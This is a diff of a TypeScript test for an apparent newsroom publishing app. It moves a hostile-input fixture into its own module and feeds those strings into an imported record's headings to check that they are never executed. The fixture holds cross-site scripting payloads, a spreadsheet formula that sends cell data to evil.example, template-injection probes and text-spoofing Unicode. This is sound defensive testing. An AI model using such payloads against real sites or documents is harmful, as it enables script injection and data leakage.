@@ -29,6 +29,8 @@ import { makeCorrection } from "./publication/commands/make-correction.ts";
 import { openCorrection } from "./publication/commands/open-correction.ts";
 import { publishArticle } from "./publication/commands/publish-article.ts";
 import { reopenArticle } from "./publication/commands/reopen-article.ts";
+import { importRecord } from "./records/commands/import-record.ts";
+import { recordHeading } from "./records/heading.cases.ts";
 import { addReply } from "./replies/commands/add-reply.ts";
 import { applyCorrections } from "./revisions/commands/apply-corrections.ts";
 import { editArticle } from "./revisions/commands/edit-article.ts";
@@ -36,44 +38,10 @@ import { signOffRevision } from "./revisions/commands/sign-off-revision.ts";
 import { addSource } from "./sources/commands/add-source.ts";
 import { rangeOf } from "./test-article.ts";
 import { testChecks } from "./test-checks.ts";
+import { hostile, mark, pieces } from "./test-hostile-words.ts";
 import { givenUpDelivery } from "./test-webhook.ts";
 import { makeToken } from "./tokens/commands/make-token.ts";
 import { makeWebhook } from "./webhooks/commands/make-webhook.ts";
-
-/** Where a page of ours that runs what it is given would leave its mark. */
-export const mark = "__stetActed";
-
-/**
- * Everything that acts somewhere: markup that runs, or loads from elsewhere, in HTML and in an
- * attribute; templates of several kinds; a spreadsheet's formula; Typst; marks that turn the order of
- * what follows; characters that nobody sees.
- */
-const pieces = [
-  '=HYPERLINK("https://evil.example/?"&A1)',
-  `"'><script>window.${mark}="script"</script>`,
-  `<img src="https://evil.example/x.png" onerror="window.${mark}='img'">`,
-  `<svg/onload=window.${mark}="svg"><style>*{display:none}</style>`,
-  `</title></textarea><iframe srcdoc="<script>parent.${mark}=1</script>"></iframe>`,
-  `javascript:window.${mark}="url"`,
-  `{{7*7}} \${7*7} <%= 7*7 %> #{7*7} {t('x')} {0} {name}`,
-  '#panic("typst") $ x^2 $ @ref *bold* _it_',
-  "\u202Egnp.exe\u2066\u2069\u202D \u200Bze\u200Dro\u2060\uFEFF wi\u00ADdth",
-  "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034Falgo 👩‍👩‍👧‍👦 عربي",
-];
-
-/** As much of it as a field takes, each time beginning with another piece. */
-export function hostile(most: number, first = 0): string {
-  const turned = [
-    ...pieces.slice(first % pieces.length),
-    ...pieces.slice(0, first % pieces.length),
-  ];
-  const once = turned.join(" ");
-  return once
-    .repeat(Math.ceil(most / once.length))
-    .slice(0, most)
-    .toWellFormed()
-    .trim();
-}
 
 const password = "a password of the hostile newsroom";
 
@@ -113,6 +81,8 @@ export async function testHostileNewsroom() {
     content: told,
   });
   await signEverything(reviewer, reader, signed);
+  const elsewhere = recordHeading(newId(), hostile(300, 9), hostile(120, 1));
+  await importRecord.run(reporter, { bytes: elsewhere });
   const invited = { email: `invited@${slug}.example`, roles: ["reviewer"] };
   const { secret: invitation } = await inviteMember.run(reader, invited);
   const { secret: passwordLink } = await makePasswordLink.run(reader, {
